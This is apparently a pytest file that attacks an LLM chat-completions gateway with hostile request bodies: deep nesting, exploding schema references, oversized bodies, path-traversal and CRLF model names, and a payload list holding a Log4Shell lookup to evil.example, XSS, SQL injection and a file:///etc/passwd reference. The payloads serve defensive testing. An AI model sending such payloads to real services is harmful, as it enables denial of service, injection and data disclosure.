"""What callers say who mean harm: bodies that are deep, that grow, that take work or memory, and names that
lead elsewhere. Each is refused in clear words or served, and all the while everybody else is.

What they do below that, with HTTP, is in `test_smuggling.py`; crowds of them in `test_crowds.py`.
"""

from collections.abc import Callable, Iterator

import pytest

from attacks import (
    FORMS,
    MIB,
    UNFIT,
    UNFIT_OR_SERVED,
    Attack,
    Want,
    attacked,
    chat,
    filled,
    refused,
)
from scenario import as_params, chosen

HI = '"messages": [{"role": "user", "content": "Hi"}]'
ONE = f'{{"model": "MODEL", {HI}, VALUE}}'
TALK = '{"model": "MODEL", "messages": [VALUE]}'
CALL = '{"id": "ID", "type": "function", "function": {"name": "f", "arguments": "{}"}}'
RESULT = '{"role": "tool", "tool_call_id": "ID", "content": "done"}'


def listed(item: Callable[[int], str], count: int) -> str:
    """So many items, as they stand in a list."""
    return ",".join(map(item, range(count)))


# === depth ===

PLACES = {
    "everything": "VALUE",
    "messages": '{"model": "MODEL", "messages": VALUE}',
    "a message": '{"model": "MODEL", "messages": [VALUE]}',
    "a role": '{"model": "MODEL", "messages": [{"role": VALUE, "content": "Hi"}]}',
    "a name": '{"model": "MODEL", "messages": [{"role": "user", "name": VALUE, "content": "Hi"}]}',
    "content": '{"model": "MODEL", "messages": [{"role": "user", "content": VALUE}]}',
    "a part": '{"model": "MODEL", "messages": [{"role": "user", "content": [VALUE]}]}',
    "a text": '{"model": "MODEL", "messages": [{"role": "user", "content":'
    ' [{"type": "text", "text": VALUE}]}]}',
    "an unknown part": '{"model": "MODEL", "messages": [{"role": "user", "content":'
    ' [{"type": "x", "x": VALUE}]}]}',
    "an image": '{"model": "MODEL", "messages": [{"role": "user", "content":'
    ' [{"type": "image_url", "image_url": VALUE}]}]}',
    "a refusal": '{"model": "MODEL", "messages": [{"role": "assistant", "refusal": VALUE}]}',
    "tool calls": '{"model": "MODEL", "messages": [{"role": "assistant", "tool_calls": VALUE}]}',
    "arguments": '{"model": "MODEL", "messages": [{"role": "user", "content": "Hi"}, {"role": "assistant",'
    ' "tool_calls": [{"id": "1", "type": "function", "function": {"name": "f", "arguments": VALUE}}]}]}',
    "arguments as text": '{"model": "MODEL", "messages": [{"role": "user", "content": "Hi"},'
    ' {"role": "assistant", "tool_calls": [{"id": "1", "type": "function", "function": {"name": "f",'
    ' "arguments": "{\\"a\\": TEXT}"}}]}, {"role": "tool", "tool_call_id": "1", "content": "done"}]}',
    "a result as text": '{"model": "MODEL", "messages": [{"role": "user", "content": "Hi"},'
    ' {"role": "assistant", "tool_calls": [{"id": "1", "type": "function", "function": {"name": "f",'
    ' "arguments": "{}"}}]}, {"role": "tool", "tool_call_id": "1", "content": "{\\"a\\": TEXT}"}]}',
    "a model": f'{{"model": VALUE, {HI}}}',
    "stream": ONE.replace("VALUE", '"stream": VALUE'),
    "an unknown member": ONE.replace("VALUE", '"unknown": VALUE'),
    "metadata": ONE.replace("VALUE", '"metadata": {"a": VALUE}'),
    "tools": ONE.replace("VALUE", '"tools": VALUE'),
    "a tool": ONE.replace("VALUE", '"tools": [VALUE]'),
    "a function": ONE.replace("VALUE", '"tools": [{"type": "function", "function": VALUE}]'),
    "parameters": ONE.replace(
        "VALUE", '"tools": [{"type": "function", "function": {"name": "f", "parameters": VALUE}}]'
    ),
    "a tool choice": ONE.replace("VALUE", '"tool_choice": VALUE'),
    "a response format": ONE.replace("VALUE", '"response_format": VALUE'),
    "a schema": ONE.replace(
        "VALUE", '"response_format": {"type": "json_schema", "json_schema": {"name": "n", "schema": VALUE}}'
    ),
    "stream options": ONE.replace("VALUE", '"stream": true, "stream_options": VALUE'),
    "stop": ONE.replace("VALUE", '"stop": [VALUE]'),
    "biases": ONE.replace("VALUE", '"logit_bias": {"1": VALUE}'),
    "reasoning": ONE.replace("VALUE", '"reasoning_effort": VALUE'),
    "a temperature": ONE.replace("VALUE", '"temperature": VALUE'),
    "a limit": ONE.replace("VALUE", '"max_completion_tokens": VALUE'),
    "a user": ONE.replace("VALUE", '"user": VALUE'),
    "a prediction": ONE.replace("VALUE", '"prediction": {"type": "content", "content": VALUE}'),
    "modalities": ONE.replace("VALUE", '"modalities": [VALUE]'),
    "thinking": ONE.replace("VALUE", '"thinking": VALUE'),
}
NESTS = {"lists": ("[", "]"), "objects": ('{"a":', "}")}
# Every way in which a JSON Schema holds another.
SCHEMAS = {
    "anyOf": ('{"anyOf":[', "]}"),
    "oneOf": ('{"oneOf":[', "]}"),
    "allOf": ('{"allOf":[', "]}"),
    "not": ('{"not":', "}"),
    "if": ('{"if":', "}"),
    "items": ('{"type":"array","items":', "}"),
    "prefixItems": ('{"type":"array","prefixItems":[', "]}"),
    "properties": ('{"type":"object","properties":{"a":', "}}"),
    "patternProperties": ('{"type":"object","patternProperties":{"a":', "}}"),
    "additionalProperties": ('{"type":"object","additionalProperties":', "}"),
    "definitions": ('{"type":"object","$defs":{"a":', "}}"),
    "lists in anyOf": ('{"anyOf":[[', "]]}"),
    "enum": ('{"enum":[{"a":', "}]}"),
    "default": ('{"type":"object","default":{"a":', "}}"),
}


def nested(template: str, nest: tuple[str, str], depth: int, core: str = "1") -> Callable[[str], bytes]:
    """A body that holds so many of a nest, one within the other."""
    opening, ending = nest

    def value() -> str:
        return opening * depth + core + ending * depth

    if "TEXT" in template:
        return filled(
            template.replace("TEXT", "VALUE"), lambda: value().replace("\\", "\\\\").replace('"', '\\"')
        )
    return filled(template, value)


def depths() -> Iterator[Attack]:
    for place, template in PLACES.items():
        for name, nest in NESTS.items():
            for depth in (130, 200_000):
                for form in ("a", "c", "d2"):
                    body = nested(template, nest, depth)
                    yield Attack(f"{depth} {name} in {place} {form}", chat(body), UNFIT_OR_SERVED, form)
    for name, nest in SCHEMAS.items():
        for place in ("parameters", "a schema"):
            for depth in (127, 6_000, 100_000):
                for form in FORMS:
                    body = nested(PLACES[place], nest, depth, '{"type":"string"}')
                    yield Attack(f"{depth} {name} in {place} {form}", chat(body), UNFIT_OR_SERVED, form)


# === what grows when it is written ===

TOOLS = ONE.replace("VALUE", '"tools": [VALUE]')
SCHEMA = PLACES["a schema"]


def tool(name: str, parameters: str) -> str:
    return f'{{"type":"function","function":{{"name":"{name}","parameters":{parameters}}}}}'


def references(count: int, definition: int) -> str:
    """A schema that refers to one definition of so many bytes so often."""
    properties = listed(lambda n: f'"p{n}":{{"$ref":"#/$defs/d"}}', count)
    d = f'{{"type":"string","description":"{"x" * definition}"}}'
    return f'{{"type":"object","properties":{{{properties}}},"$defs":{{"d":{d}}}}}'


def doubling(levels: int, arms: int = 2) -> str:
    """Each definition refers to the next so often: a billion of the last."""

    def level(n: int) -> str:
        arm = f'{{"$ref":"#/$defs/d{n + 1}"}}'
        properties = listed(lambda k: f'"p{k}":{arm}', arms)
        return f'"d{n}":{{"type":"object","properties":{{{properties}}}}}'

    last = f'"d{levels}":{{"type":"string"}}'
    return f'{{"$ref":"#/$defs/d0","$defs":{{{listed(level, levels)},{last}}}}}'


def chain(length: int) -> str:
    """Each definition is the next."""
    links = listed(lambda n: f'"d{n}":{{"$ref":"#/$defs/d{n + 1}"}}', length)
    return f'{{"$ref":"#/$defs/d0","$defs":{{{links},"d{length}":{{"type":"string"}}}}}}'


CYCLES = {
    "itself": '{"$ref":"#"}',
    "itself within": '{"type":"object","properties":{"a":{"$ref":"#"},"b":{"$ref":"#"}}}',
    "two in a circle": '{"$ref":"#/$defs/a","$defs":{"a":{"$ref":"#/$defs/b"},"b":{"$ref":"#/$defs/a"}}}',
    "a tree": '{"$ref":"#/$defs/t","$defs":{"t":{"type":"object","properties":{"l":{"$ref":"#/$defs/t"},'
    '"r":{"$ref":"#/$defs/t"},"m":{"type":"array","items":{"$ref":"#/$defs/t"}}}}}}',
    "nobody": '{"$ref":"#/$defs/nobody"}',
    "a stranger": '{"$ref":"http://127.0.0.1:1/schema.json"}',
    "a file": '{"$ref":"file:///etc/passwd"}',
    "a pointer of tildes": '{"$ref":"#/$defs/' + "~0~1" * 10_000 + '","$defs":{}}',
}


def long_names(template: str, count: int, length: int) -> str:
    """Calls of a function with a long name, each with a result: some formats name it in both."""
    call = CALL.replace('"f"', f'"{"f" * length}"').replace("ID", "1")
    user = '{"role":"user","content":"Hi"}'
    calls = f'{{"role":"assistant","tool_calls":[{call}]}}'
    return ",".join([user, calls, *[RESULT.replace("ID", "1")] * count])


GROWING = {
    "references to a large definition": (TOOLS, lambda: tool("f", references(4_000, 100_000))),
    "three tools of references": (
        TOOLS,
        lambda: listed(lambda n: tool(f"f{n}", references(4_000, 100_000)), 3),
    ),
    "many tools of references": (TOOLS, lambda: listed(lambda n: tool(f"f{n}", references(100, 2_000)), 500)),
    "references in a schema": (SCHEMA, lambda: references(4_000, 100_000)),
    "references and tools": (
        ONE,
        lambda: (
            '"response_format":{"type":"json_schema","json_schema":{"name":"n","schema":'
            + references(1_000, 4_000)
            + '}},"tools":['
            + tool("f", references(1_000, 4_000))
            + "]"
        ),
    ),
    "definitions that double": (TOOLS, lambda: tool("f", doubling(30))),
    "definitions that double in a schema": (SCHEMA, lambda: doubling(60)),
    "definitions that grow tenfold": (SCHEMA, lambda: doubling(9, 10)),
    "a chain of references": (TOOLS, lambda: tool("f", chain(20_000))),
    "a chain of references in a schema": (SCHEMA, lambda: chain(20_000)),
    "a schema of quotes": (SCHEMA, lambda: '{"description":"' + '\\"' * 3 * MIB + '"}'),
    "a schema of backslashes": (SCHEMA, lambda: '{"const":"' + "\\\\" * 3 * MIB + '"}'),
    "a schema of control characters": (SCHEMA, lambda: '{"pattern":"' + "\\u0001" * MIB + '"}'),
    "one long name and many results": (TALK, lambda: long_names(TALK, 1_000, 100_000)),
    "text of quotes": (TALK, lambda: '{"role":"user","content":"' + '\\"' * 5 * MIB + '"}'),
    "text of escapes": (TALK, lambda: '{"role":"user","content":"' + "\\u00e9" * 2 * MIB + '"}'),
    "text of half pairs": (TALK, lambda: '{"role":"user","content":"' + "\\ud83d" * MIB + '"}'),
    "arguments of quotes": (
        TALK,
        lambda: (
            '{"role":"user","content":"Hi"},{"role":"assistant","tool_calls":['
            + CALL.replace('"{}"', '"{\\"a\\":\\"' + '\\\\\\"' * MIB + '\\"}"')
            + "]},"
            + RESULT
        ),
    ),
}


def growing() -> Iterator[Attack]:
    for name, (template, value) in GROWING.items():
        for form in FORMS:
            yield Attack(f"{name} {form}", chat(filled(template, value)), UNFIT_OR_SERVED, form)
    for name, schema in CYCLES.items():
        for form in FORMS:
            body = filled(TOOLS, tool("f", schema))
            yield Attack(f"a reference to {name} {form}", chat(body), UNFIT_OR_SERVED, form)
            body = filled(SCHEMA, schema)
            yield Attack(f"a schema that is {name} {form}", chat(body), UNFIT_OR_SERVED, form)


# === what takes work or memory ===


def turns(count: int, distinct: bool, backwards: bool = False, split: bool = False) -> str:
    """Calls and their results: in one message or one each, with ids of their own or all with one."""
    ids = [f"call_{n}" if distinct else "call" for n in range(count)]
    calls = [CALL.replace("ID", each) for each in ids]
    results = [RESULT.replace("ID", each) for each in (reversed(ids) if backwards else ids)]
    user = '{"role":"user","content":"Hi"}'
    if split:
        pairs = zip(calls, results, strict=True)
        return ",".join(
            [user, *(f'{{"role":"assistant","tool_calls":[{call}]}},{result}' for call, result in pairs)]
        )
    return ",".join([user, f'{{"role":"assistant","tool_calls":[{",".join(calls)}]}}', *results])


def members(count: int, distinct: bool = True) -> str:
    return listed(lambda n: f'"k{n if distinct else ""}":0', count)


def message(role: str) -> Callable[[int], str]:
    return lambda n: f'{{"role":"{role}","content":"{n}"}}'


USER = '{"role":"user","content":[VALUE]}'
HEAVY = {
    "calls of one id": (TALK, lambda: turns(50_000, distinct=False)),
    "calls and results": (TALK, lambda: turns(50_000, distinct=True)),
    "calls and results backwards": (TALK, lambda: turns(50_000, distinct=True, backwards=True)),
    "calls and results in turn": (TALK, lambda: turns(40_000, distinct=True, split=True)),
    "calls of one id in turn": (TALK, lambda: turns(40_000, distinct=False, split=True)),
    "calls that nobody answers": (
        TALK,
        lambda: (
            '{"role":"assistant","tool_calls":['
            + listed(lambda n: CALL.replace("ID", f"c{n}"), 60_000)
            + "]}"
        ),
    ),
    "results of no call": (TALK, lambda: listed(lambda n: RESULT.replace("ID", f"c{n}"), 80_000)),
    "results of no call and one id": (TALK, lambda: listed(lambda n: RESULT, 80_000)),
    "calls without ids": (
        TALK,
        lambda: (
            '{"role":"assistant","tool_calls":['
            + listed(lambda n: CALL.replace('"id": "ID", ', ""), 60_000)
            + "]}"
        ),
    ),
    "tools": (TOOLS, lambda: listed(lambda n: tool(f"f{n}", "{}"), 80_000)),
    "tools of one name": (TOOLS, lambda: listed(lambda n: tool("f", "{}"), 80_000)),
    "tools that are allowed": (
        ONE,
        lambda: (
            '"tools":['
            + listed(lambda n: tool(f"f{n}", "{}"), 40_000)
            + '],"tool_choice":{"type":"allowed_tools","allowed_tools":{"mode":"auto","tools":['
            + listed(lambda n: f'{{"type":"function","function":{{"name":"f{n}"}}}}', 40_000)
            + "]}}"
        ),
    ),
    "unknown members": (ONE, lambda: members(500_000)),
    "unknown members of one name": (ONE, lambda: members(800_000, distinct=False)),
    "members without a name": (ONE, lambda: listed(lambda n: '"":1', 6_000_000)),
    "metadata": (ONE, lambda: f'"metadata":{{{members(400_000)}}}'),
    "biases": (ONE, lambda: '"logit_bias":{' + listed(lambda n: f'"{n}":1', 400_000) + "}"),
    "stops": (ONE, lambda: '"stop":[' + listed(lambda n: f'"{n}"', 500_000) + "]"),
    "stops of one word": (ONE, lambda: '"stop":[' + listed(lambda n: '"x"', 800_000) + "]"),
    "modalities": (ONE, lambda: '"modalities":[' + listed(lambda n: '"text"', 500_000) + "]"),
    "system messages": (TALK, lambda: listed(message("system"), 120_000)),
    "developer messages": (TALK, lambda: listed(message("developer"), 120_000)),
    "user messages": (TALK, lambda: listed(message("user"), 120_000)),
    "assistant messages": (TALK, lambda: listed(message("assistant"), 120_000)),
    "messages in turn": (
        TALK,
        lambda: listed(lambda n: message("user" if n % 2 else "assistant")(n), 120_000),
    ),
    "system and user in turn": (
        TALK,
        lambda: listed(lambda n: message("user" if n % 2 else "system")(n), 120_000),
    ),
    "messages of nothing": (TALK, lambda: listed(lambda n: "{}", 2_000_000)),
    "messages of null": (TALK, lambda: listed(lambda n: "null", 2_000_000)),
    "empty messages": (TALK, lambda: listed(lambda n: '{"role":"user","content":""}', 200_000)),
    "parts": (
        TALK,
        lambda: USER.replace("VALUE", listed(lambda n: f'{{"type":"text","text":"{n}"}}', 150_000)),
    ),
    "empty parts": (
        TALK,
        lambda: USER.replace("VALUE", listed(lambda n: '{"type":"text","text":""}', 150_000)),
    ),
    "images": (
        TALK,
        lambda: USER.replace(
            "VALUE",
            listed(lambda n: '{"type":"image_url","image_url":{"url":"data:image/png;base64,aGk="}}', 60_000),
        ),
    ),
    "one large image": (
        TALK,
        lambda: USER.replace(
            "VALUE",
            '{"type":"image_url","image_url":{"url":"data:image/png;base64,' + "QUFB" * 2 * MIB + '"}}',
        ),
    ),
    "properties": (
        TOOLS,
        lambda: tool(
            "f",
            '{"type":"object","properties":{'
            + listed(lambda n: f'"p{n}":{{}}', 150_000)
            + '},"required":['
            + listed(lambda n: f'"p{n}"', 150_000)
            + "]}",
        ),
    ),
    "properties of one name": (
        TOOLS,
        lambda: tool("f", '{"type":"object","properties":{' + listed(lambda n: '"p":{}', 400_000) + "}}"),
    ),
    "required twice": (
        SCHEMA,
        lambda: '{"type":"object","required":[' + listed(lambda n: '"p"', 800_000) + "]}",
    ),
    "an enum": (SCHEMA, lambda: '{"enum":[' + listed(lambda n: f'"{n}"', 500_000) + "]}"),
    "alternatives": (SCHEMA, lambda: '{"anyOf":[' + listed(lambda n: '{"type":"string"}', 250_000) + "]}"),
    "types": (SCHEMA, lambda: '{"type":[' + listed(lambda n: '"string"', 400_000) + "]}"),
    "all of them": (
        SCHEMA,
        lambda: '{"allOf":[' + listed(lambda n: f'{{"properties":{{"p{n}":{{}}}}}}', 100_000) + "]}",
    ),
    "definitions": (
        SCHEMA,
        lambda: (
            '{"$defs":{'
            + listed(lambda n: f'"d{n}":{{}}', 60_000)
            + '},"properties":{'
            + listed(lambda n: f'"p{n}":{{"$ref":"#/$defs/d{n}"}}', 60_000)
            + "}}"
        ),
    ),
    "one long text": (TALK, lambda: message("user")(0).replace('"0"', f'"{"x" * 16 * MIB}"')),
    "one long name of a member": (ONE, lambda: f'"{"k" * 8 * MIB}":0'),
    "one long unknown value": (ONE, lambda: f'"k":"{"v" * 8 * MIB}"'),
    "one long number": (ONE, lambda: f'"seed":{"7" * 8 * MIB}'),
    "one long temperature": (ONE, lambda: f'"temperature":0.{"7" * 8 * MIB}'),
    "an exponent": (ONE, lambda: '"temperature":1e-' + "9" * MIB),
    "white space": (ONE, lambda: " " * 16 * MIB + '"seed":1'),
    "new lines": (ONE, lambda: "\n" * 16 * MIB + '"seed":1'),
    "escapes": (TALK, lambda: message("user")(0).replace('"0"', '"' + "\\u0041" * 2 * MIB + '"')),
    "a long role": (TALK, lambda: message("r" * 4 * MIB)(0)),
    "a long user": (ONE, lambda: f'"user":"{"u" * 4 * MIB}"'),
    "a long tool": (TOOLS, lambda: tool("f" * 4 * MIB, "{}")),
    "a long effort": (ONE, lambda: f'"reasoning_effort":"{"h" * 4 * MIB}"'),
    "a long choice": (ONE, lambda: f'"tool_choice":"{"c" * 4 * MIB}"'),
    "a long schema name": (
        ONE,
        lambda: (
            '"response_format":{"type":"json_schema","json_schema":{"schema":{},"name":"'
            + "n" * 4 * MIB
            + '"}}'
        ),
    ),
    "a long type of part": (TALK, lambda: USER.replace("VALUE", f'{{"type":"{"t" * 4 * MIB}"}}')),
    "choices": (ONE, lambda: '"n":4294967295'),
    "choices without end": (ONE, lambda: '"n":' + "9" * 400),
}
# What none of them has to read.
PASSED_ON = ("unknown members", "metadata", "white space", "new lines", "one long text", "escapes")


def heavy() -> Iterator[Attack]:
    for name, (template, value) in HEAVY.items():
        for form in ("a", "c", "d2"):
            yield Attack(f"{name} {form}", chat(filled(template, value)), UNFIT_OR_SERVED, form)


# === names that lead elsewhere ===


def named(name: str) -> Callable[[str], bytes]:
    """A body for a model of this name, as it stands between quotes, beside those who may be asked for it."""
    return lambda model: f'{{"model": "{model.partition("/")[0]}/{name}", {HI}}}'.encode()


NO_MODEL = refused(400, "invalid_value", "model")
LONG_NAMES = {
    "257 bytes": "x" * 255,
    "300 bytes": "x" * 300,
    "a page": "x" * 4096,
    "a megabyte": "x" * MIB,
    "two bytes each": "\u00e9" * 128,
    "four bytes each": "\U0001f600" * 64,
    "escapes": "\\u0041" * 256,
    "slashes": "/" * 1000,
    "nothing but zeroes": "\\u0000" * 300,
    "stars": "*" * 5000,
}
WALKS = [
    "..", "../..", "../../v1beta/files", "gemini/../../files", "gemini/..", "./gemini", "gemini/.",
    ".../x", "gemini%2f..%2ffiles", "gemini%2F", "%2e%2e", "%252e%252e", "gemini%00",
    "gemini%0d%0ax-evil: 1", "gemini:delete", "gemini:generateContent?x=", ":streamGenerateContent",
    "gemini?key=1", "gemini#x", "?", "#", "gemini\\\\..\\\\files", "\\\\", "gemini\\u005c..",
    "gemini\\u002f..", "gemini x", " gemini", "gemini ", "gemini\\tx", "gemini\\nx",
    "gemini\\r\\nx-evil: 1", "gemini\\u0000", "gemini\\u007f", "gemini\\u0085", "gemini\\u00e9",
    "gemini\\u2025", "gemini\\uff0f..", "gemini\\u2215..", "gemini\\u202e", "gemini;x=1/..;/",
    "//evil.example/x", "http://evil.example/", "gemini/../../../", "~/../x",
    "gemini%", "gemini%2", "gemini%zz", "..\\u0000/", "gemini//x", "/gemini", "gemini/", "models/../x",
]  # fmt: skip


def names() -> Iterator[Attack]:
    for name, text in LONG_NAMES.items():
        for form in ("a", "c", "d"):
            yield Attack(f"a model of {name} {form}", chat(named(text)), NO_MODEL, form)
        body = filled(f'{{"model": "xx{text}", {HI}}}')
        yield Attack(f"a model of {name} that nobody has", chat(body), NO_MODEL)
    for number, text in enumerate(WALKS):
        for more in ("", ', "stream": true'):
            body = filled(f'{{"model": "d/{text}", {HI}{more}}}')
            kind = "streamed" if more else "whole"
            yield Attack(f"a model that walks {number} {kind}", chat(body), NO_MODEL, "d")
    # For who names it in the body it is a name like any other.
    for number, text in enumerate(WALKS):
        yield Attack(f"a model that walks {number} in a body", chat(named(text)), _stays_in_the_body, "a")


def _stays_in_the_body(outcome) -> None:
    answer = outcome.answer
    assert answer and answer.status in (200, 400, 404), answer
    if answer.status != 200:
        answer.assert_error(answer.status, "invalid_request_error", param="model")


# === wrong, and more than once ===

ODD = {
    "two models": f'{{"model": "MODEL", {HI}, "model": "a/other"}}',
    "two models, one escaped": f'{{"model": "MODEL", {HI}, "mod\\u0065l": "a/other"}}',
    "two lists of messages": f'{{"model": "MODEL", {HI}, {HI}}}',
    "two streams": f'{{"model": "MODEL", {HI}, "stream": false, "stream": true}}',
    "a comment": f'{{"model": "MODEL", /* no */ {HI}}}',
    "a comma too many": f'{{"model": "MODEL", {HI},}}',
    "single quotes": f"{{'model': 'MODEL', {HI}}}",
    "no quotes": f'{{model: "MODEL", {HI}}}',
    "a mark of byte order": f'\ufeff{{"model": "MODEL", {HI}}}',
    "two documents": f'{{"model": "MODEL", {HI}}}{{"model": "MODEL", {HI}}}',
    "lines of documents": f'{{"model": "MODEL", {HI}}}\n{{"model": "MODEL", {HI}}}',
    "a document and a zero": f'{{"model": "MODEL", {HI}}}\x00',
    "a number in hexadecimal": f'{{"model": "MODEL", {HI}, "seed": 0x10}}',
    "a number with a plus": f'{{"model": "MODEL", {HI}, "seed": +1}}',
    "infinity": f'{{"model": "MODEL", {HI}, "temperature": Infinity}}',
    "not a number": f'{{"model": "MODEL", {HI}, "temperature": NaN}}',
    "a raw tab": '{"model": "MODEL", "messages": [{"role": "user", "content": "\t"}]}',
    "a string that never ends": f'{{"model": "MODEL", {HI}, "user": "',
    "an escape that never ends": f'{{"model": "MODEL", {HI}, "user": "\\u00"}}',
    "a prototype": f'{{"model": "MODEL", {HI}, "__proto__": {{"stream": true}}, "model": "MODEL"}}',
}


def odd() -> Iterator[Attack]:
    for name, template in ODD.items():
        for form in ("a", "c", "d"):
            want: Want = UNFIT
            yield Attack(f"{name} {form}", chat(filled(template)), want, form)


# What would do something to who reads it in a log, as it stands in JSON.
NASTY = [
    '\\n{\\"status\\":200}', "\\r\\nINJECTED", "\\u001b[31m", "\\u001b]0;title\\u0007", "\\u0008\\u0008",
    "\\u0000", "\\u007f", "\\u009b31m", "\\u2028", "\\u202e", "\\ud800", "%n%s%x",
    "${jndi:ldap://evil.example/x}", "<script>alert(1)</script>", '\\" , \\"status\\": 200, \\"x\\": \\"',
    "%REQ(AUTHORIZATION)%", "{{7*7}}", "';DROP TABLE x;--",
]  # fmt: skip
SHOWN = {
    "a model": '{"model": "a/VALUE", "messages": [{"role": "user", "content": "Hi"}]}',
    "a model that nobody has": '{"model": "VALUE", "messages": [{"role": "user", "content": "Hi"}]}',
    "a role": '{"model": "MODEL", "messages": [{"role": "VALUE", "content": "Hi"}]}',
    "a type of part": '{"model": "MODEL", "messages": [{"role": "user", "content": [{"type": "VALUE"}]}]}',
    "a member": ONE.replace("VALUE", '"VALUE": 1'),
    "an effort": ONE.replace("VALUE", '"reasoning_effort": "VALUE"'),
    "a choice": ONE.replace("VALUE", '"tool_choice": "VALUE"'),
    "a tool": ONE.replace("VALUE", '"tools": [{"type": "function", "function": {"name": "VALUE"}}]'),
    "a kind of tool": ONE.replace("VALUE", '"tools": [{"type": "VALUE"}]'),
    "a format": ONE.replace("VALUE", '"response_format": {"type": "VALUE"}'),
    "a user": ONE.replace("VALUE", '"user": "VALUE"'),
    "a text": '{"model": "MODEL", "messages": [{"role": "user", "content": "VALUE"}]}',
    "an image": '{"model": "MODEL", "messages": [{"role": "user", "content":'
    ' [{"type": "image_url", "image_url": {"url": "VALUE"}}]}]}',
    "an id": '{"model": "MODEL", "messages": [{"role": "tool", "tool_call_id": "VALUE", "content": "x"}]}',
}


def nasty() -> Iterator[Attack]:
    for number, text in enumerate(NASTY):
        for name, template in SHOWN.items():
            for form in ("a", "c", "d2"):
                body = filled(template, text)
                yield Attack(f"{number} as {name} {form}", chat(body), _says_so_or_serves, form)


def _says_so_or_serves(outcome) -> None:
    """What it says is no matter here, but it says it in JSON, and in headers without anything odd."""
    answer = outcome.answer
    assert answer and answer.status in (200, 400, 404), answer
    assert isinstance(answer.json(), dict)
    assert all(value.isprintable() and value.isascii() for value in answer.headers.values()), answer.headers


ATTACKS = [*depths(), *growing(), *heavy(), *names(), *odd(), *nasty()]


# === the tests ===


@pytest.fixture(scope="module")
def plays(request, tmp_path_factory):
    with attacked(tmp_path_factory.mktemp("gateway"), chosen(request), {}) as plays:
        yield plays


@pytest.mark.parametrize("scenario", as_params(ATTACKS))
def test_attack(plays, scenario):
    plays.outcome(scenario)


def test_there_are_hundreds():
    assert len(ATTACKS) >= 300
